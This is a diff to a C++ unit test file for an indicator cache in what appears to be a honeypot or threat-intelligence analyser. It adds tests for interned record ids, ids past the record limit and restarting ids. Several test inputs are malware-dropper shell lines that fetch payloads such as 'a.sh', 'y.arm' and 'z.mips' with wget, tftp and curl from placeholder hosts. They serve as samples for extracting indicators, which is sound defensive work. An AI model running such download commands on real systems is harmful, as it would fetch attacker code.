@@ -1,6 +1,7 @@
 // IndicatorCache: the same indicators as extracting each record afresh, for repeated records,
-// records in between, after the cache has emptied itself at its record limit, and after its
-// KeyDictionary has emptied itself.
+// records in between, after the cache has emptied itself at its id limit, for record ids past
+// its record limit, after the caller's record ids restart, and after its KeyDictionary has
+// emptied itself.
 #include "analyze/intel/indicator_cache.h"
 
 #include <gtest/gtest.h>
@@ -8,6 +9,8 @@
 #include <span>
 #include <string>
 #include <vector>
+
+#include "core/string_interner.h"
 
 namespace busytrap::analyze::intel {
 namespace {
@@ -21,9 +24,11 @@ std::vector<std::pair<IndicatorType, std::string>> fresh(std::string_view record
   return flat;
 }
 
-// The cache's answer, read back through the texts the dictionary reported learning.
+// The cache's answer, read back through the texts the dictionary reported learning. Record ids
+// come from an interner of the record texts, as a worker's ChunkKeyCache gives them.
 struct Cached {
   IndicatorCache cache;
+  core::StringInterner records;
   KeyDictionary keys;
   std::vector<std::string> learnt;  // by dictionary id
   std::vector<std::string> chunk_learnt;
@@ -31,8 +36,11 @@ struct Cached {
   Cached() { keys.begin_chunk(chunk_learnt); }
 
   std::vector<std::pair<IndicatorType, std::string>> get(std::string_view record) {
+    return get(records.intern(record), record);
+  }
+  std::vector<std::pair<IndicatorType, std::string>> get(std::uint32_t record_id, std::string_view record) {
     std::vector<std::pair<IndicatorType, std::string>> flat;
-    const std::span<const std::uint32_t> ids = cache.get(record, keys);
+    const std::span<const std::uint32_t> ids = cache.get(record_id, record, keys);
     learnt.insert(learnt.end(), chunk_learnt.begin(), chunk_learnt.end());
     chunk_learnt.clear();
     for (std::uint32_t id : ids) {
@@ -64,14 +72,39 @@ TEST(IndicatorCache, GivesWhatTheExtractorGives) {
 TEST(IndicatorCache, StaysCorrectAcrossItsReset) {
   Cached cache;
   const std::string kept = "wget http://203.0.113.5/a.sh";
-  for (std::size_t i = 0; i < IndicatorCache::kMaxRecords + 10; ++i) {
+  // Each record holds a URL, a host and a file name: past kMaxIds ids the cache empties.
+  for (std::size_t i = 0; i < IndicatorCache::kMaxIds / 2; ++i) {
     const std::string record = "wget http://198.51.100.1/f" + std::to_string(i);
     ASSERT_EQ(cache.get(record), fresh(record)) << i;
-    if (i % 5000 == 0) {
+    if (i % 50000 == 0) {
       ASSERT_EQ(cache.get(kept), fresh(kept)) << i;
     }
   }
   EXPECT_EQ(cache.get(kept), fresh(kept));
+}
+
+TEST(IndicatorCache, ExtractsRecordsPastItsRecordLimit) {
+  Cached cache;
+  const std::string a = "wget http://198.51.100.9/x.sh";
+  const std::string b = "tftp -g -r y.arm 203.0.113.77";
+  const auto far = static_cast<std::uint32_t>(IndicatorCache::kMaxRecords);
+  EXPECT_EQ(cache.get(far, a), fresh(a));
+  EXPECT_EQ(cache.get(far + 1, b), fresh(b));
+  EXPECT_EQ(cache.get(far, a), fresh(a));
+  EXPECT_EQ(cache.get(0, b), fresh(b));
+}
+
+// The caller's ids restart (its key cache started afresh): id 0 now names another text.
+TEST(IndicatorCache, ForgetsRecordsWhenTheCallerSaysSo) {
+  Cached cache;
+  const std::string a = "wget http://198.51.100.9/x.sh";
+  const std::string b = "cd /tmp; curl -O http://203.0.113.8:8080/z.mips";
+  ASSERT_EQ(cache.get(0, a), fresh(a));
+  ASSERT_EQ(cache.get(0, a), fresh(a));
+  cache.cache.forget_records();
+  EXPECT_EQ(cache.get(0, b), fresh(b));
+  EXPECT_EQ(cache.get(1, a), fresh(a));
+  EXPECT_EQ(cache.get(0, b), fresh(b));
 }
 
 // When the dictionary empties itself (at a chunk start) the cached ids would name other keys:
